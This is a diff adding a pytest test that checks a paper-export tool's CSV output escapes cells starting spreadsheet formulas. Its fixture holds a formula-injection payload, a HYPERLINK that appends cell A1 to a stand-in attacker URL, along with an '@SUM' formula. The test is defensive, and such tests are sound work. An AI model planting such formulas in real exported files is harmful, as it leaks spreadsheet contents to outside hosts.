@@ -152,6 +152,18 @@ def test_csv_has_a_header_and_survives_commas_quotes_and_line_breaks(fixtures: P
     assert rows[1][FIELDS.index("authors")] == "; ".join(papers[0].authors)
 
 
+def test_csv_cells_never_start_a_spreadsheet_formula(fixtures: Path) -> None:
+    papers = real_papers(fixtures)
+    papers[0] = dataclasses.replace(
+        papers[0], title='=HYPERLINK("http://evil.example/"&A1,"click")', authors=["@SUM(A1)"]
+    )
+    rows = list(csv.reader(io.StringIO(export(papers, "csv"), newline="")))
+    assert rows[1][FIELDS.index("title")] == "'" + papers[0].title
+    assert rows[1][FIELDS.index("authors")] == "'@SUM(A1)"
+    # Ordinary cells are left as they are.
+    assert rows[2][FIELDS.index("title")] == papers[1].title
+
+
 @pytest.fixture
 def small_store(tmp_path: Path, fixtures: Path) -> Path:
     path = tmp_path / "papers.db"
